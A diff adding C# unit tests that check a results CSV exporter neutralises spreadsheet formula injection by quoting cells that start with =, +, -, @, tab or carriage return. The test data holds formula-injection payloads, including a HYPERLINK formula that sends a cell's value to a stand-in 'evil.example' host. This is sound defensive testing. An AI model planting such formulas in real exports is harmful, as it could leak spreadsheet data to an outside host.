@@ -41,6 +41,47 @@ public sealed class ResultsExportTests
         Assert.All(records[..4], r => Assert.Equal(ResultsExport.CsvColumns.Count - 1, CountSeparators(r)));
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")")]
+    [InlineData("+1+1", "'+1+1")]
+    [InlineData("-2+3", "'-2+3")]
+    [InlineData("@SUM(A1)", "'@SUM(A1)")]
+    [InlineData("\t=1", "'\t=1")]
+    [InlineData("\r=1", "'\r=1")]
+    [InlineData("a=1", "a=1")]
+    [InlineData("'quoted", "'quoted")]
+    [InlineData(" =1", " =1")]
+    [InlineData("", "")]
+    [InlineData(null, null)]
+    public void Neutralise_PrefixesFormulaTriggersWithAQuote(string? cell, string? expected) => Assert.Equal(expected, ResultsExport.Neutralise(cell));
+
+    [Fact]
+    public void Csv_NeutralisesFormulasInTextColumns_AndKeepsNegativeAmountsAsNumbers()
+    {
+        var rows = new[]
+        {
+            Some.Row("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\").pdf", fields: new KeyFields
+            {
+                Supplier = "@SUM(1+1)", InvoiceId = "+49 30 1234", InvoiceDate = "2025-03-14", DueDate = "-1",
+                NetAmount = -10m, TaxAmount = -1.9m, TotalAmount = -11.9m, Currency = "\tEUR",
+            }),
+            Some.Row("-cmd.pdf", status: "failed", errorCode: "corrupt", errorMessage: "=1+2, then \"more\""),
+        };
+
+        var records = ResultsExport.ToCsv(rows).Split("\r\n");
+
+        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\").pdf\",succeeded,invoice,1,0,100,'@SUM(1+1),'+49 30 1234,2025-03-14,'-1,-10.00,-1.90,-11.90,'\tEUR,,",
+            records[1]);
+        Assert.Equal("'-cmd.pdf,failed,,1,0,100,,,,,,,,,corrupt,\"'=1+2, then \"\"more\"\"\"", records[2]);
+        // No field of any record starts with a formula trigger, quoted or not, except the numbers DocFlow wrote.
+        foreach (var record in records[1..3])
+            foreach (var field in SplitFields(record))
+            {
+                var value = field.StartsWith('"') ? field[1..] : field;
+                Assert.True(value.Length == 0 || !ResultsExport.FormulaTriggers.Contains(value[0]) || decimal.TryParse(value, System.Globalization.CultureInfo.InvariantCulture, out _), field);
+            }
+    }
+
     [Fact]
     public async Task Json_HoldsTheSameRows()
     {
@@ -56,6 +97,25 @@ public sealed class ResultsExportTests
         Assert.Equal(12.5m, items[0].GetProperty("fields").GetProperty("totalAmount").GetDecimal());
         Assert.Equal("corrupt", items[1].GetProperty("errorCode").GetString());
         Assert.False(items[0].TryGetProperty("output", out _));
+    }
+
+    /// <summary>The raw fields of one record (split at commas outside quotes, quotes kept).</summary>
+    private static List<string> SplitFields(string record)
+    {
+        var fields = new List<string>();
+        var start = 0;
+        var quoted = false;
+        for (var i = 0; i < record.Length; i++)
+        {
+            if (record[i] == '"') quoted = !quoted;
+            else if (record[i] == ',' && !quoted)
+            {
+                fields.Add(record[start..i]);
+                start = i + 1;
+            }
+        }
+        fields.Add(record[start..]);
+        return fields;
     }
 
     /// <summary>Commas outside quoted fields.</summary>
